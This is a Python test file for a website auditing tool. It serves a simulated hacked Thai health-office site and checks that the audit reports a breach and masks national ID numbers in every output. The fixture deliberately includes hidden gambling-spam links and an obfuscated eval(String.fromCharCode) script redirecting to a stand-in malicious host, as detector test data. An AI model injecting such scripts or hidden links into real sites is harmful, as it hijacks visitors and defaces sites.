"""A hacked site that shows ID numbers, as `auditor check` tells of it: what was seen, and no number in any file."""

from __future__ import annotations

import io
import json
import zipfile
from typing import TYPE_CHECKING

import pypdfium2
import pytest

from auditor.chromium import installed
from tests.cli.test_check import auditor
from tests.loopback import LoopbackSite, Reply

if TYPE_CHECKING:
    from pathlib import Path

NUMBERS = ("1101500123452", "3100600123450", "5501200345670")
FIRST, SECOND, THIRD = ("-".join((n[0], n[1:5], n[5:10], n[10:12], n[12])) for n in NUMBERS)
THAI = FIRST.translate(str.maketrans("0123456789", "๐๑๒๓๔๕๖๗๘๙"))
SPACED = SECOND.replace("-", " ")

PAGE = """<!doctype html><html lang="th"><meta charset="utf-8"><title>{title}</title>
<meta name="description" content="เลขบัตรประชาชน {number}">
<header>สำนักงานสาธารณสุขอำเภอตัวอย่าง จังหวัดร้อยเอ็ด</header>
<nav><a href="/vision">วิสัยทัศน์ {number}</a> <a href="/history">ประวัติความเป็นมา</a> <a href="/jobs">รับสมัครงาน</a></nav>
<main><h1>{title}</h1>{text}</main>
<div style="position:absolute;left:-9999px"><a href="https://ufabet-vip.invalid/">สล็อตเว็บตรง เครดิตฟรี</a></div>
<script>eval(String.fromCharCode({code}))</script></html>"""
FILES = {
    *("audit.json", "audit.sarif", "audit.xlsx", "findings.csv"),
    *("items.csv", "junit.xml", "report.html", "report.md"),
}
CODE = ",".join(str(ord(letter)) for letter in 'location="https://evil.invalid/go";')

JOBS = f"""<ul><li><a href="/files/list.csv">รายชื่อผู้มีสิทธิสอบ {SECOND} (CSV)</a> เผยแพร่เมื่อ 1 มิถุนายน 2567
แหล่งที่มา นายสมชาย ใจดี {FIRST}<li><a href="/gone">ประกาศผล เลขบัตรประชาชน{NUMBERS[2]}</a></ul>"""


def hacked() -> dict[str, Reply]:
    """The site's answers: every place that a report takes words from holds a number."""
    texts = {
        "/": ("หน้าแรก", "<p>สำนักงานสาธารณสุขอำเภอตัวอย่าง จังหวัดร้อยเอ็ด ยินดีต้อนรับ</p>"),
        "/vision": (f"วิสัยทัศน์ {THAI}", f"<p>เป็นองค์กรหลักด้านสุขภาพ เลขประจำตัวประชาชน {NUMBERS[1]} ที่ประชาชนเชื่อมั่น</p>"),
        "/history": (f"ประวัติความเป็นมา นายสมชาย ใจดี {NUMBERS[0]}", "<p>อยู่ระหว่างปรับปรุง " + THIRD + "</p>"),
        "/jobs": ("รับสมัครงาน", JOBS),
    }
    pages = {
        path: Reply(PAGE.format(title=title, text=text, number=SPACED, code=CODE))
        for path, (title, text) in texts.items()
    }
    table = "ที่,ชื่อ,เลขประจำตัวประชาชน\n" + "".join(f"{n},นางสาวสมหญิง ใจงาม,{each}\n" for n, each in enumerate(NUMBERS))
    return pages | {"/files/list.csv": Reply(table, content_type="text/csv; charset=utf-8")}


def checked(folder: Path, formats: str) -> str:
    """What is printed while the site is checked; the files lie in `folder`/out."""
    with LoopbackSite(hacked()) as site:
        where = ("--as-of", "2024-06-15", "--output", "out", "--format", formats)
        done = auditor("check", site.url, "--delay", "0", *where, "--verbose", cwd=folder)
    assert done.returncode == 1, done.stderr
    return done.stdout + done.stderr


def words_of(file: Path) -> str:
    """Everything that a file says, whatever it is packed in."""
    body = file.read_bytes()
    if file.suffix == ".pdf":
        document = pypdfium2.PdfDocument(body)
        text = "".join(page.get_textpage().get_text_bounded() for page in document)
        document.close()
        return text
    if body.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(body)) as packed:
            return "\n".join(packed.read(name).decode("utf-8", "replace") for name in packed.namelist())
    return body.decode("utf-8-sig")


def told(text: str) -> list[str]:
    """The numbers that a text shows in any spelling."""
    bare = "".join(
        letter
        for letter in text.translate(str.maketrans("๐๑๒๓๔๕๖๗๘๙", "0123456789"))
        if letter not in "-–. \t\r\n\xa0|"
    )
    return [number for number in NUMBERS if number in bare]


def test_a_hacked_site_fails_and_no_file_shows_an_id_number(tmp_path: Path) -> None:
    """RELIABILITY_RULES 23; CONTRACT.md 4: masked in every output."""
    printed = checked(tmp_path, "html,json,xlsx,csv,junit,sarif,md")
    files = sorted((tmp_path / "out").iterdir())
    assert {file.name for file in files} == FILES
    assert {file.name: told(words_of(file)) for file in files if told(words_of(file))} == {}
    assert told(printed) == []
    audit = json.loads((tmp_path / "out" / "audit.json").read_text(encoding="utf-8"))
    crime = next(each for each in audit["requirements"] if each["id"] == "3.4.computer-crime")
    assert (crime["status"], crime["reasons"][0]["code"]) == ("fail", "breach-seen")
    assert {proof["matched"] for proof in crime["evidence"]} == {
        "security.gambling-spam",
        "security.hidden-links",
        "security.suspicious-script",
    }
    shown = [each for each in audit["findings"] if each["rule"] == "privacy.national-id"]
    assert {each["url"].rpartition("/")[2] for each in shown} == {"vision", "history", "jobs", "list.csv"}
    assert all("-xxxx-xxxxx-xx-" in each["message"]["th"] for each in shown)
    assert any(
        "1-xxxx-xxxxx-xx-2" in item["title"] or "3-xxxx-xxxxx-xx-0" in item["title"] for item in audit["items"]
    )


@pytest.mark.browser
def test_the_printed_report_shows_no_id_number(tmp_path: Path) -> None:
    if installed() is None:
        pytest.skip("no Chromium here: install it")
    checked(tmp_path, "pdf")
    (file,) = (tmp_path / "out").iterdir()
    text = words_of(file)
    assert "xxxxx" in text
    assert told(text) == []
